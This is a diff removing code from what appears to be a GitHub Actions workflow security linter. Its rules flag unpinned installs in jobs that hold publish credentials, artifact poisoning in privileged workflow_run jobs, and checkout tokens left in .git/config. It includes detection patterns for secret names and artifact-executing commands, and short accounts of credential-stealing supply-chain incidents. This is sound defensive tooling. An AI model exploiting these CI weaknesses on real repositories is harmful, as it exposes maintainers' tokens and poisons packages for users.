-    if (reference.siteStart < span.start || reference.siteEnd > span.end || reference.isToken && !includeToken) continue;
-    found.push({ name: reference.name, span: { start: reference.start, end: reference.end } });
-  }
-  return found;
-}
-function allSecretReferences(file) {
-  const cached = secretReferenceCache.get(file);
-  if (cached) return cached;
-  const found = [];
-  for (const site of file.expressions) {
-    const occurrence = site.occurrence;
-    if (!occurrence.terminated) continue;
-    const ast = absoluteParse(occurrence).ast;
-    if (!ast) continue;
-    const add = (name, start, end, isToken) => found.push({ siteStart: occurrence.start, siteEnd: occurrence.end, name, start, end, isToken });
-    walkExpression(ast, (node) => {
-      if (node.type !== "property" && node.type !== "index" && node.type !== "context") return;
-      const segments = contextPathSegments(node, {});
-      if (!segments || segments[0] !== "secrets") {
-        if (node.type === "index" && contextPathSegments(node.object)?.join(".") === "secrets") {
-          add("*", node.start, node.end, false);
-          return false;
-        }
-        return;
-      }
-      if (segments.length < 2) return;
-      const name = segments[1];
-      add(name, node.start, node.end, name.toUpperCase() === "GITHUB_TOKEN");
-      return false;
-    });
-  }
-  secretReferenceCache.set(file, found);
-  return found;
-}
-var secretReferenceCache = new AttachedCache("secret-references", attachmentsOf);
-function effectivePermissions(workflow, job) {
-  return job.permissions ?? workflow.permissions;
-}
-function permissionLevel(workflow, job, scope) {
-  const entry = effectivePermissions(workflow, job);
-  if (!entry) return "default";
-  const shorthand = scalarText(entry.value);
-  if (shorthand === "write-all") return "write";
-  if (shorthand === "read-all") return scope === "id-token" ? "none" : "read";
-  if (!entry.value || !isMap(entry.value)) return "none";
-  const value = scalarText(new MapView(asMap(entry.value), workflow.doc).get(scope)?.value ?? null);
-  return value === "write" ? "write" : value === "read" ? "read" : "none";
-}
-function hasIdTokenWrite(workflow, job) {
-  return permissionLevel(workflow, job, "id-token") === "write";
-}
-function tokenMayWrite(workflow, job) {
-  const entry = effectivePermissions(workflow, job);
-  if (!entry) return true;
-  const shorthand = scalarText(entry.value);
-  if (shorthand === "write-all") return true;
-  if (shorthand !== null || !entry.value || !isMap(entry.value)) return false;
-  return new MapView(asMap(entry.value), workflow.doc).entries.some((scope) => scalarText(scope.value) === "write");
-}
-var PRIVILEGED_OUTSIDER_TRIGGERS = ["pull_request_target", "workflow_run", "issue_comment", "issues", "discussion", "discussion_comment"];
-function privilegedTriggers(workflow, names = PRIVILEGED_OUTSIDER_TRIGGERS) {
-  return workflow.triggers.map((trigger) => trigger.name).filter((name) => names.includes(name));
-}
-function input(step, name) {
-  return scalarText(step.with.get(name)?.value ?? null);
-}
-function visibleEnv(file, job, step) {
-  const env = /* @__PURE__ */ new Map();
-  const add = (view) => {
-    if (!view) return;
-    for (const entry of view.entries) env.set(entry.key, scalarText(entry.value) ?? "");
-  };
-  add(file.workflow?.env);
-  add(job?.env);
-  add(step?.env);
-  return env;
-}
-function allSteps(file) {
-  const out = [];
-  if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) out.push({ job, step, steps: job.steps });
-  if (file.action) for (const step of file.action.steps) out.push({ job: null, step, steps: file.action.steps });
-  return out;
-}
-function actionMajorVersion(file, action) {
-  const ref2 = action.ref ?? "";
-  const direct = /^v?(\d+)(\.\d+)*$/.exec(ref2);
-  if (direct) return Number(direct[1]);
-  const line = file.lines.lineAt(action.site.entry.valueSpan.start);
-  const comment = /#\s*(?:tag[=:]\s*)?v?(\d+)(?:\.\d+)*\b/.exec(file.lines.lineText(line).slice(action.site.entry.valueSpan.end - file.lines.lineStarts[line]));
-  return comment ? Number(comment[1]) : null;
-}
-
-// server/src/knowledge/publishers.ts
-var PUBLISHER_ACTIONS = [
-  { name: "pypa/gh-action-pypi-publish", registry: "pypi" },
-  { name: "js-devtools/npm-publish", registry: "npm" },
-  { name: "rubygems/release-gem", registry: "rubygems" },
-  { name: "rubygems/configure-rubygems-credentials", registry: "rubygems" },
-  { name: "katyo/publish-crates", registry: "crates.io" },
-  { name: "rust-lang/crates-io-auth-action", registry: "crates.io" },
-  { name: "goreleaser/goreleaser-action", registry: "github-release" },
-  { name: "softprops/action-gh-release", registry: "github-release" },
-  { name: "ncipollo/release-action", registry: "github-release" },
-  { name: "svenstaro/upload-release-action", registry: "github-release" },
-  { name: "docker/build-push-action", registry: "container", when: "push" },
-  { name: "changesets/action", registry: "npm", when: "publish" },
-  { name: "actions/attest-build-provenance", registry: "other" },
-  { name: "actions/attest", registry: "other" },
-  { name: "sigstore/gh-action-sigstore-python", registry: "other" },
-  { name: "actions/deploy-pages", registry: "pages" },
-  { name: "peaceiris/actions-gh-pages", registry: "pages" },
-  { name: "jamesives/github-pages-deploy-action", registry: "pages" }
-];
-var byName = new Map(PUBLISHER_ACTIONS.map((action) => [action.name, action]));
-function publisherAction(name) {
-  return byName.get(name.toLowerCase());
-}
-var PYTHON_LAUNCHERS = /* @__PURE__ */ new Set(["python", "python3", "py", "uvx", "pipx", "uv", "poetry", "pdm", "hatch"]);
-var recognised = new AttachedCache("publish-command");
-function publishCommand(command) {
-  let known = recognised.get(command);
-  if (known === void 0) recognised.set(command, known = recognisePublishCommand(command));
-  return known;
-}
-var FIRST_WORDS = /* @__PURE__ */ new Set([
-  ...PYTHON_LAUNCHERS,
-  "npx",
-  "bunx",
-  "cargo",
-  "twine",
-  "flit",
-  "maturin",
-  "gem",
-  "npm",
-  "pnpm",
-  "bun",
-  "yarn",
-  "lerna",
-  "changeset",
-  "nuget",
-  "nuget.exe",
-  "dotnet",
-  "mvn",
-  "mvnw",
-  "gradle",
-  "gradlew",
-  "docker",
-  "podman",
-  "gh",
-  "goreleaser",
-  "vsce",
-  "ovsx"
-]);
-function recognisePublishCommand(command) {
-  if (!FIRST_WORDS.has(command.name) && !command.name.startsWith("python")) return null;
-  let words2 = command.argv.map((word) => word.text);
-  for (let guard = 0; guard < 3 && words2.length > 1; guard++) {
-    const head = words2[0].replace(/^.*[\\/]/, "").toLowerCase();
-    if ((head.startsWith("python") || head === "py") && words2[1] === "-m") words2 = words2.slice(2);
-    else if (PYTHON_LAUNCHERS.has(head) && words2[1] === "run" && words2[2] && !words2[2].startsWith("-")) words2 = words2.slice(2);
-    else if ((head === "uvx" || head === "pipx" || head === "npx" || head === "bunx") && words2[1]) words2 = words2.slice(1).filter((w2, i) => i > 0 || !w2.startsWith("-"));
-    else break;
-  }
-  if (words2.length === 0 || words2.includes("--dry-run") || words2.includes("-n") && words2[0] === "cargo") return null;
-  const name = words2[0].replace(/^.*[\\/]/, "").toLowerCase();
-  const sub = (words2[1] ?? "").toLowerCase();
-  const sub2 = (words2[2] ?? "").toLowerCase();
-  switch (name) {
-    case "cargo":
-      return sub === "publish" ? { registry: "crates.io", label: "cargo publish", trusted: true } : null;
-    case "twine":
-      return sub === "upload" ? { registry: "pypi", label: "twine upload", trusted: true } : null;
-    case "uv":
-    case "hatch":
-    case "pdm":
-    case "poetry":
-    case "flit":
-      return sub === "publish" ? { registry: "pypi", label: `${name} publish`, trusted: true } : null;
-    case "maturin":
-      return sub === "publish" || sub === "upload" ? { registry: "pypi", label: `maturin ${sub}`, trusted: true } : null;
-    case "gem":
-      return sub === "push" ? { registry: "rubygems", label: "gem push", trusted: true } : null;
-    case "npm":
-    case "pnpm":
-    case "bun":
-      return sub === "publish" ? { registry: "npm", label: `${name} publish`, trusted: true } : null;
-    case "yarn":
-      if (sub === "publish") return { registry: "npm", label: "yarn publish", trusted: true };
-      return sub === "npm" && sub2 === "publish" ? { registry: "npm", label: "yarn npm publish", trusted: true } : null;
-    case "lerna":
-      return sub === "publish" ? { registry: "npm", label: "lerna publish", trusted: true } : null;
-    case "changeset":
-      return sub === "publish" ? { registry: "npm", label: "changeset publish", trusted: true } : null;
-    case "nuget":
-    case "nuget.exe":
-      return sub === "push" ? { registry: "nuget", label: "nuget push", trusted: true } : null;
-    case "dotnet":
-      return sub === "nuget" && sub2 === "push" ? { registry: "nuget", label: "dotnet nuget push", trusted: true } : null;
-    case "mvn":
-    case "mvnw":
-      return words2.slice(1).some((w2) => w2 === "deploy" || /:deploy$/.test(w2)) ? { registry: "maven", label: "mvn deploy", trusted: false } : null;
-    case "gradle":
-    case "gradlew":
-      return words2.slice(1).some((w2) => /^(:?[\w-]+:)*publish\w*$/i.test(w2)) ? { registry: "maven", label: "gradle publish", trusted: false } : null;
-    case "docker":
-    case "podman":
-      return sub === "push" || sub === "buildx" && words2.includes("--push") || sub === "image" && sub2 === "push" ? { registry: "container", label: `${name} push`, trusted: false } : null;
-    case "gh":
-      return sub === "release" && (sub2 === "create" || sub2 === "upload") ? { registry: "github-release", label: `gh release ${sub2}`, trusted: false } : null;
-    case "goreleaser":
-      return sub === "release" || sub === "" && words2.length === 1 ? { registry: "github-release", label: "goreleaser release", trusted: false } : null;
-    case "vsce":
-    case "ovsx":
-      return sub === "publish" ? { registry: "other", label: `${name} publish`, trusted: false } : null;
-    default:
-      return null;
-  }
-}
-function inlineCredentialArgs(command) {
-  const found = [];
-  const list = args(command);
-  for (let i = 0; i < list.length; i++) {
-    const text = list[i].text;
-    const flag = /^(--token|--password|-p|--api-key|-k|--key|-u|--username|--auth-token|--otp)(=.*)?$/.exec(text);
-    if (flag) found.push(flag[1]);
-  }
-  return found;
-}
-
-// server/src/rules/adhoc-packages.ts
-var PUBLISH_SECRET = /PYPI|NPM|TOKEN|PASSWORD|CARGO|RUBYGEMS|NUGET|PUBLISH|DEPLOY|API_KEY/i;
-var VALUE_OPTIONS = {
-  apt: ["-t", "--target-release", "-o", "--option", "-c", "--config-file"],
-  pip: ["-i", "--index-url", "--extra-index-url", "-f", "--find-links", "-t", "--target", "--prefix", "--root", "--python", "--python-version", "--platform", "--implementation", "--abi", "--src", "--upgrade-strategy", "--progress-bar", "--cache-dir", "--log", "--proxy", "--retries", "--timeout", "--exists-action", "--trusted-host", "--cert", "--client-cert", "--no-binary", "--only-binary", "-C", "--config-settings", "--global-option", "--report"],
-  pipx: ["--python", "--index-url", "-i", "--pip-args", "--suffix", "--spec"],
-  uv: ["-p", "--python", "-i", "--index-url", "--index", "--default-index", "--extra-index-url", "-f", "--find-links", "-t", "--target", "--prefix", "--python-version", "--python-platform", "--index-strategy", "--keyring-provider", "-C", "--config-setting", "--resolution", "--prerelease", "--exclude-newer", "--link-mode", "--cache-dir", "--config-file", "--directory", "--project", "--no-binary", "--only-binary", "-P", "--upgrade-package", "--reinstall-package", "--no-build-package", "--torch-backend", "--from", "--with-requirements", "--with-editable", "--overrides"],
-  npm: ["--registry", "--prefix", "--cache", "--tag", "-w", "--workspace", "-C", "--dir", "--filter", "-F"],
-  gem: ["--source", "-s", "-i", "--install-dir", "-n", "--bindir", "--platform"],
-  go: ["-tags", "-ldflags", "-gcflags", "-mod", "-modfile", "-o"],
-  cargo: ["--root", "--target", "--target-dir", "-F", "--features", "--profile", "-j", "--jobs", "--index", "--registry", "--bin", "--example", "--config", "-Z"],
-  dotnet: ["--tool-path", "--add-source", "--configfile", "--framework", "-a", "--arch", "--verbosity", "-v"],
-  choco: ["-s", "--source", "--params", "--package-parameters", "--install-arguments"]
-};
-var INSTALLERS = /* @__PURE__ */ new Set(["apt-get", "apt", "yum", "dnf", "apk", "brew", "choco", "zypper", "pacman", "pip", "pip3", "pipx", "uv", "npm", "pnpm", "yarn", "bun", "gem", "go", "cargo", "dotnet"]);
-function unversionedInstall(command) {
-  if (!INSTALLERS.has(command.name)) return null;
-  const words2 = command.argv.map((word) => word.text);
-  const name = command.name;
-  const rest = args(command);
-  const valueOptions = VALUE_OPTIONS[name === "apt-get" ? "apt" : name === "pip3" ? "pip" : name === "pnpm" || name === "yarn" || name === "bun" ? "npm" : name] ?? [];
-  const after = (index) => rest.slice(index).filter((word, i, words3) => {
-    if (word.text.startsWith("-") || word.text.includes("$")) return false;
-    const previous = i > 0 ? words3[i - 1].text : "";
-    return !valueOptions.includes(previous);
-  });
-  const hasAny = (...flags) => rest.some((word) => flags.includes(word.text) || flags.some((flag) => word.text.startsWith(`${flag}=`)));
-  switch (name) {
-    case "apt-get":
-    case "apt":
-      if (words2[1] !== "install") return null;
-      return { manager: name, packages: after(1).filter((word) => !word.text.includes("=") && !/\.deb$/.test(word.text)), system: true };
-    case "yum":
-    case "dnf":
-    case "apk":
-    case "brew":
-    case "choco":
-    case "zypper":
-    case "pacman": {
-      const verb = name === "apk" ? "add" : name === "pacman" ? "-S" : "install";
-      if (words2[1] !== verb) return null;
-      if (name === "choco" && hasAny("--version")) return null;
-      return { manager: name, packages: after(1).filter((word) => !/[=@]|-\d/.test(word.text)), system: true };
-    }
-    case "pip":
-    case "pip3":
-    case "pipx":
-      if (words2[1] !== "install") return null;
-      if (hasAny("-r", "--requirement", "-e", "--editable", "--require-hashes", "-c", "--constraint")) return null;
-      return { manager: name, packages: after(1).filter((word) => !/[=<>~!@]|^\.|\/|\.whl$|\.tar\.gz$/.test(word.text)), system: false };
-    case "uv":
-      if (words2[1] === "pip" && words2[2] === "install") {
-        if (hasAny("-r", "--requirement", "-e", "--editable", "--require-hashes", "-c", "--constraint")) return null;
-        return { manager: "uv pip", packages: after(2).filter((word) => !/[=<>~!@]|^\.|\//.test(word.text)), system: false };
-      }
-      if (words2[1] === "tool" && words2[2] === "install") return { manager: "uv tool", packages: after(2).filter((word) => !/[=<>~!@]|^\.|\//.test(word.text)), system: false };
-      return null;
-    case "npm":
-    case "pnpm":
-    case "yarn":
-    case "bun": {
-      const verb = words2[1];
-      const global = hasAny("-g", "--global") || name === "yarn" && verb === "global";
-      const adds = verb === "add" || verb === "global" && words2[2] === "add" || (verb === "install" || verb === "i") && (name === "npm" || name === "bun" || global);
-      if (!adds) return null;
-      const from = verb === "global" ? 2 : 1;
-      return { manager: `${name}${global ? " -g" : ""}`, packages: after(from).filter((word) => !/^@?[^@]+@.+/.test(word.text) && !/^[./]|^file:|^git|\.tgz$/.test(word.text)), system: false };
-    }
-    case "gem":
-      if (words2[1] !== "install" || hasAny("-v", "--version")) return null;
-      return { manager: "gem", packages: after(1).filter((word) => !word.text.includes(":")), system: false };
-    case "go":
-      if (words2[1] !== "install" && words2[1] !== "get") return null;
-      return { manager: `go ${words2[1]}`, packages: after(1).filter((word) => !/@(v?\d|[0-9a-f]{7,})/.test(word.text) && !/^\.\.?(\/|$)/.test(word.text)), system: false };
-    case "cargo":
-      if (words2[1] !== "install" || hasAny("--version", "--vers", "--path", "--git", "--rev", "--tag")) return null;
-      return { manager: "cargo", packages: after(1).filter((word) => !word.text.includes("@")), system: false };
-    case "dotnet":
-      if (words2[1] !== "tool" || words2[2] !== "install" || hasAny("--version")) return null;
-      return { manager: "dotnet tool", packages: after(2), system: false };
-    default:
-      return null;
-  }
-}
-var REGULAR_MANAGERS = /^(gem|bundle|npm|yarn|pnpm|bun)\b/;
-function publishCredentials(file, job) {
-  if (!job || !file.workflow) return null;
-  if (credentialsCache.has(job)) return credentialsCache.get(job);
-  const result = computePublishCredentials(file, job);
-  credentialsCache.set(job, result);
-  return result;
-}
-var credentialsCache = new AttachedCache("package-credentials", attachmentsOf);
-function computePublishCredentials(file, job) {
-  if (!file.workflow) return null;
-  const secret = secretReferences(file, job.span).find((reference) => PUBLISH_SECRET.test(reference.name));
-  const publishes = job.steps.some((step) => {
-    const action = stepAction(file, step);
-    return action && publisherAction(action.name);
-  }) || runScriptsOf(file, job).some((run2) => run2.script.commands.some((command) => publishCommand(command)));
-  if (!publishes) return null;
-  if (hasIdTokenWrite(file.workflow, job)) return "`id-token: write`";
-  if (secret) return `secret \`${secret.name}\``;
-  return null;
-}
-var adhocPackages = {
-  id: "adhoc-packages",
-  title: "Package installed at run time without a version",
-  kinds: ["workflow", "action"],
-  severity: "low",
-  confidence: "high",
-  persona: "pedantic",
-  docs: {
-    summary: "A `run:` step installs packages by name with no version (`apt-get install`, `pip install`, `npm install -g`, `gem install`, `go install …@latest`, `cargo install`), so each run takes whatever the registry serves that minute.",
-    why: "An unpinned install is the moment a compromised release reaches you. In LiteLLM (2026, PYSEC-2026-2) the job holding the PyPI credential ran an unpinned `apt-get install trivy` hours after Trivy's release channel was taken over (CVE-2026-33634); the scanner stole the credential and malicious LiteLLM versions followed. Shai-Hulud (2025) spread through `npm install` of freshly published worm versions.",
-    fix: "Pin every package (`pip install ruff==0.6.9`, `npm install -g pnpm@9.12.0`, `go install golang.org/x/tools/cmd/goimports@v0.26.0`, `gem install bundler -v 2.5.22`, `apt-get install jq=1.7.1-3`), better with hashes (`pip install --require-hashes -r requirements.txt`), or use a lock file (`npm ci`, `uv sync --locked`). Keep such installs out of jobs that hold publish credentials."
-  },
-  check({ file, report }) {
-    for (const run2 of runScripts(file)) {
-      let credentials;
-      for (const command of run2.script.commands) {
-        const install = unversionedInstall(command);
-        if (!install || install.packages.length === 0) continue;
-        if (credentials === void 0) credentials = publishCredentials(file, run2.job);
-        const names = install.packages.map((word) => `\`${word.text}\``);
-        const span = run2.sourceSpan({ start: install.packages[0].span.start, end: install.packages[install.packages.length - 1].span.end });
-        report({
-          span,
-          message: `\`${install.manager}\` installs ${names.slice(0, 4).join(", ")}${names.length > 4 ? "…" : ""} without a version${credentials ? `, in a job holding publish credentials (${credentials})` : ""}: every run takes whatever the registry serves`,
-          severity: credentials ? "medium" : "low",
-          persona: credentials || REGULAR_MANAGERS.test(install.manager) ? "regular" : "pedantic",
-          confidence: "high"
-        });
-      }
-    }
-  }
-};
-
-// server/src/rules/artifact-poisoning.ts
-var TRIGGERS2 = ["workflow_run", "pull_request_target", "issue_comment"];
-var ROOT = /^(\.\/?|\$\{\{\s*github\.workspace\s*\}\}\/?|\$GITHUB_WORKSPACE\/?|)$/;
-var EXEC = /* @__PURE__ */ new Set(["unzip", "tar", "7z", "bash", "sh", "source", ".", "python", "python3", "node", "chmod", "dpkg", "pip", "pip3", "npm", "eval", "expand-archive"]);
-var artifactPoisoning = {
-  id: "artifact-poisoning",
-  title: "Privileged job unpacks or runs artifacts of an untrusted run",
-  kinds: ["workflow"],
-  severity: "high",
-  confidence: "medium",
-  persona: "regular",
-  docs: {
-    summary: "A `workflow_run` (or other privileged) job downloads artifacts of the run that triggered it, which a fork pull request controls, into the workspace root or then extracts or executes them.",
-    why: 'Artifacts uploaded by a `pull_request` run contain whatever the pull request wanted. A `workflow_run` job that downloads them into its workspace lets them overwrite scripts, configuration or `node_modules` of the trusted checkout, and then runs them with the repository\'s secrets. GitHub Security Lab documented the pattern ("Keeping your GitHub Actions and workflows secure Part 1", 2021), and CodeQL ships `actions/artifact-poisoning` queries for it.',
-    fix: "Download into a fresh directory outside the workspace (`path: ${{ runner.temp }}/artifacts`), treat every file as untrusted data (validate a PR number with a regular expression, never `source` or execute it), and never extract archives over the checkout."
-  },
-  check({ file, report }) {
-    const workflow = file.workflow;
-    if (!workflow) return;
-    const triggers = privilegedTriggers(workflow, TRIGGERS2);
-    if (triggers.length === 0) return;
-    for (const job of workflow.jobs) {
-      const scripts = runScriptsOf(file, job);
-      const downloads = [];
-      for (const step of job.steps) {
-        const action = stepAction(file, step);
-        if (action?.name === "actions/download-artifact" && (step.with.has("run-id") || step.with.has("github-token"))) {
-          const path = input(step, "path");
-          downloads.push({ step, span: action.site.entry.valueSpan, what: "`actions/download-artifact` with `run-id`", path: path === null || ROOT.test(path.trim()) ? null : path.trim() });
-        } else if (action && /^dawidd6\/action-download-artifact$|^bettermarks\/action-artifact-download$|^aochmann\/actions-download-artifact$/.test(action.name)) {
-          const path = input(step, "path");
-          downloads.push({ step, span: action.site.entry.valueSpan, what: `\`${action.name}\``, path: path === null || ROOT.test(path.trim()) ? null : path.trim() });
-        }
-        for (const run2 of scripts) {
-          if (run2.step !== step) continue;
-          for (const command of run2.script.commands) {
-            if (command.name === "gh" && command.argv[1]?.text === "run" && command.argv[2]?.text === "download") {
-              const dir = flagValue(command, "-D", "--dir");
-              downloads.push({ step, span: run2.sourceSpan(command.span), what: "`gh run download`", path: dir === null || ROOT.test(dir.text) ? null : dir.text });
-            }
-          }
-        }
-      }
-      for (const download of downloads) {
-        const use = laterUse(scripts, download);
-        if (download.path !== null && !use) continue;
-        report({
-          span: download.span,
-          message: download.path === null ? `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root, over the trusted checkout; a fork pull request controls their content` : `${download.what} in \`${triggers[0]}\` job \`${job.id}\` fetches the triggering run's artifacts and ${use.what} them; a fork pull request controls their content`,
-          confidence: "medium",
-          related: use ? [{ span: use.span, message: `${use.what} the artifact` }] : []
-        });
-      }
-    }
-  }
-};
-function laterUse(scripts, download) {
-  if (download.path === null) return null;
-  const dir = trimEndOf(download.path, "/");
-  for (const run2 of scripts) {
-    if (run2.step.index < download.step.index) continue;
-    for (const command of run2.script.commands) {
-      const first = command.argv[0]?.text ?? "";
-      const runsLocal = /^\.\//.test(first) && first.includes(dir.replace(/^\.\//, ""));
-      if (!runsLocal && !(EXEC.has(command.name) && mentions(command, dir))) continue;
-      {
-        const what = command.name === "unzip" || command.name === "tar" || command.name === "7z" || command.name === "expand-archive" ? "extracts" : "executes";
-        return { span: run2.sourceSpan(command.span), what };
-      }
-    }
-  }
-  return null;
-}
-function mentions(command, dir) {
-  const needle = dir.replace(/^\.\//, "");
-  return needle.length > 0 && (args(command).some((word) => word.text.includes(needle)) || command.argv[0].text.includes(needle));
-}
-
-// server/src/fixes/step-inputs.ts
-function setStepInput(file, step, name, value) {
-  const lines = file.lines;
-  const eol = lines.eol;
-  const withEntry = step.get("with");
-  const existing = step.with.get(name);
-  if (existing) {
-    if (existing.value && !("value" in existing.value)) return null;
-    return [{ span: existing.valueSpan.end > existing.valueSpan.start ? existing.valueSpan : { start: existing.keySpan.end + 1, end: existing.keySpan.end + 1 }, newText: existing.valueSpan.end > existing.valueSpan.start ? value : ` ${value}` }];
-  }
-  const stepMap = step.map;
-  if (!stepMap || stepMap.flow) return null;
-  if (withEntry && withEntry.value && isMap(withEntry.value)) {
-    const map2 = withEntry.value;
-    const first = step.with.entries[0];
-    if (map2.flow) {
-      const end = withEntry.valueSpan.end;
-      if (file.text[end - 1] !== "}") return null;
-      const last = step.with.entries[step.with.entries.length - 1];
-      if (!last) return [{ span: { start: end - 1, end: end - 1 }, newText: `${name}: ${value}` }];
-      const at2 = Math.max(last.valueSpan.end, last.keySpan.end);
-      return [{ span: { start: at2, end: at2 }, newText: `, ${name}: ${value}` }];
-    }
-    if (!first) return null;
-    const line = lines.lineAt(first.keySpan.start);
-    const column2 = first.keySpan.start - lines.lineStarts[line];
-    if (lines.lineText(line).slice(0, column2).trim() !== "") return null;
-    let at = line;
-    const indent2 = " ".repeat(column2);
-    while (at > 0 && /^\s*#/.test(lines.lineText(at - 1)) && lines.indentation(at - 1) === indent2) at--;
-    return [{ span: { start: lines.lineStarts[at], end: lines.lineStarts[at] }, newText: `${indent2}${name}: ${value}${eol}` }];
-  }
-  if (withEntry && !isNullValue(withEntry.value)) return null;
-  const anchor = withEntry ?? step.uses ?? step.entries[0];
-  if (!anchor) return null;
-  const anchorLine = lines.lineAt(anchor.keySpan.start);
-  const column = anchor.keySpan.start - lines.lineStarts[anchorLine];
-  const unit = indentStep(file);
-  const indent = " ".repeat(column);
-  if (withEntry) {
-    const lineEnd2 = lines.lineContentEnd(anchorLine);
-    const after = file.text.slice(withEntry.keySpan.end, lineEnd2);
-    if (!/^:\s*(#.*)?$/.test(after)) return null;
-    return [{ span: { start: lineEnd2, end: lineEnd2 }, newText: `${eol}${indent}${unit}${name}: ${value}` }];
-  }
-  const valueEnd = Math.max(anchor.valueSpan.end, anchor.keySpan.end);
-  const endLine = lines.lineAt(valueEnd);
-  const lineEnd = lines.lineContentEnd(endLine);
-  if (file.text.slice(valueEnd, lineEnd).trim() !== "" && !/^\s*#/.test(file.text.slice(valueEnd, lineEnd))) return null;
-  return [{ span: { start: lineEnd, end: lineEnd }, newText: `${eol}${indent}with:${eol}${indent}${unit}${name}: ${value}` }];
-}
-
-// server/src/rules/artipacked.ts
-var UPLOADERS = ["actions/upload-artifact", "actions/upload-pages-artifact", "actions/cache", "actions/cache/save"];
-var PUSHERS = ["stefanzweifel/git-auto-commit-action", "ad-m/github-push-action", "ec-nantes/push-action", "endbug/add-and-commit", "github-actions-x/commit", "changesets/action", "peter-evans/create-pull-request", "cpina/github-action-push-to-another-repository"];
-function uploadsWorkspace(file, step) {
-  if (!stepUses(file, step, ...UPLOADERS)) return false;
-  const path = input(step, "path");
-  if (path === null) return false;
-  return path.split(/\r?\n/).some((line) => {
-    const item = line.trim().replace(/^['"]|['"]$/g, "");
-    return /^(\.{1,2}\/?|\$\{\{\s*github\.workspace\s*\}\}\/?|\$GITHUB_WORKSPACE\/?|\*\*?|\.\/\*\*?)$/.test(item);
-  });
-}
-function gitRemoteSteps(file) {
-  const steps = /* @__PURE__ */ new Set();
-  for (const run2 of runScripts(file)) {
-    if (run2.script.commands.some((command) => command.name === "git" && command.argv.some((word) => word.text === "push" || word.text === "fetch" || word.text === "pull"))) steps.add(run2.step);
-  }
-  return steps;
-}
-var LaterSteps = class {
-  constructor(file, steps, gitSteps) {
-    this.file = file;
-    this.steps = steps;
-    this.gitSteps = gitSteps;
-  }
-  file;
-  steps;
-  gitSteps;
-  uploads;
-  pushes;
-  uploadAfter(index) {
-    if (!this.uploads) {
-      this.uploads = new Array(this.steps.length);
-      let next;
-      for (let i = this.steps.length - 1; i >= 0; i--) {
-        this.uploads[i] = next;
-        if (uploadsWorkspace(this.file, this.steps[i])) next = this.steps[i];
-      }
-    }
-    return this.uploads[index];
-  }
-  pushAfter(index) {
-    if (!this.pushes) {
-      const git = this.gitSteps();
-      this.pushes = new Array(this.steps.length);
-      let later = false;
-      for (let i = this.steps.length - 1; i >= 0; i--) {
-        this.pushes[i] = later;
-        const step = this.steps[i];
-        if (git.has(step) || stepUses(this.file, step, ...PUSHERS)) later = true;
-      }
-    }
-    return this.pushes[index];
-  }
-};
-var LOWER = { high: "medium", medium: "low", low: "informational", informational: "informational" };
-var artipacked = {
-  id: "artipacked",
-  title: "Checkout leaves the token in .git/config",
-  kinds: ["workflow", "action"],
-  severity: "medium",
-  confidence: "low",
-  persona: "regular",
-  docs: {
-    summary: "`actions/checkout` without `persist-credentials: false` writes the job's token into the checkout, where every later step, and every artifact of the workspace, can read it.",
-    why: 'In "ArtiPACKED" (Palo Alto Unit 42, 2024) public repositories of Google, Microsoft, AWS, Red Hat and others uploaded their whole workspace as an artifact: `.git/config` inside it held the `GITHUB_TOKEN` (and sometimes a PAT) that `actions/checkout` had persisted, and anyone could download the artifact and race the job to use the token. Astral sets `persist-credentials: false` on every checkout (uv: 132 of 132).',
-    fix: "Add `persist-credentials: false` under the checkout's `with:`. A later step that really needs to push can pass the token explicitly (e.g. `git push https://x-access-token:${GH_TOKEN}@github.com/...` with `GH_TOKEN` in that step's `env:`)."
-  },
-  check({ file, report }) {
-    let gitSteps;
-    const gitRemote = () => gitSteps ??= gitRemoteSteps(file);
-    const laterOf = /* @__PURE__ */ new Map();
-    for (const { step, steps } of allSteps(file)) {
-      const action = stepUses(file, step, "actions/checkout");
-      if (!action) continue;
-      const persist = step.with.get("persist-credentials");
-      const value = persist ? input(step, "persist-credentials") : null;
-      let later = laterOf.get(steps);
-      if (!later) laterOf.set(steps, later = new LaterSteps(file, steps, gitRemote));
-      const upload = later.uploadAfter(step.index);
-      const major = actionMajorVersion(file, action);
-      const modern = major !== null && major >= 6;
-      const span = action.site.entry.valueSpan;
-      const related2 = upload ? [{ span: upload.uses.valueSpan, message: "uploads the workspace, .git/config included" }] : [];
-      if (value !== null && value.trim().toLowerCase() === "false") continue;
-      if (value !== null && value.trim().toLowerCase() === "true") {
-        report({
-          span: persist.valueSpan,
-          message: `\`persist-credentials: true\` keeps the token in the checkout for every later step${upload ? ", and a later step uploads the workspace" : ""}`,
-          severity: upload ? "high" : "low",
-          confidence: upload ? "high" : "medium",
-          persona: upload ? "regular" : "auditor",
-          related: related2
-        });
-        continue;
-      }
-      if (value !== null) {
-        report({ span: persist.valueSpan, message: "`persist-credentials` is computed; when it is true the token stays in .git/config", severity: "low", confidence: "low", persona: "pedantic", related: related2 });
-        continue;
-      }
-      let severity = upload ? "high" : "medium";
-      if (modern) severity = LOWER[severity];
-      const pushes = !upload && later.pushAfter(step.index);
-      const where = modern ? "a credentials file the git config points to" : "`.git/config`";
-      report({
-        span,
-        message: upload ? `\`${action.site.value}\` persists the token in ${where} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where}, readable by every later step; add \`persist-credentials: false\``,
-        severity: pushes ? "low" : severity,
-        confidence: upload ? "high" : "low",
-        persona: pushes ? "pedantic" : "regular",
-        related: related2,
-        fixes: () => {
-          const edits = setStepInput(file, step, "persist-credentials", "false");
-          return edits ? [{ title: "Add `persist-credentials: false`", isPreferred: true, safety: "unsafe", edits }] : [];
-        }
-      });
-    }
-  }
-};
-
-// server/src/knowledge/cache-actions.ts
-var always = () => true;
-var never = () => false;
-var CACHE_ACTIONS = [
-  { name: "actions/cache", input: null, defaultOn: always, semantics: "truthy", off: null, source: "actions/cache action.yml (lookup-only only skips the download)" },
-  { name: "actions/cache/restore", input: null, defaultOn: always, semantics: "truthy", off: null, source: "actions/cache restore/action.yml", mode: "restore" },
-  { name: "actions/cache/save", input: null, defaultOn: always, semantics: "truthy", off: null, source: "actions/cache save/action.yml", mode: "save" },
-  {
-    name: "actions/setup-node",
-    input: "cache",
-    // v5 caches npm automatically when package.json has a `packageManager` field (`package-manager-cache`, default true).
-    defaultOn: (major) => major !== null && major >= 5 ? "conditional" : false,
-    semantics: "nonempty",
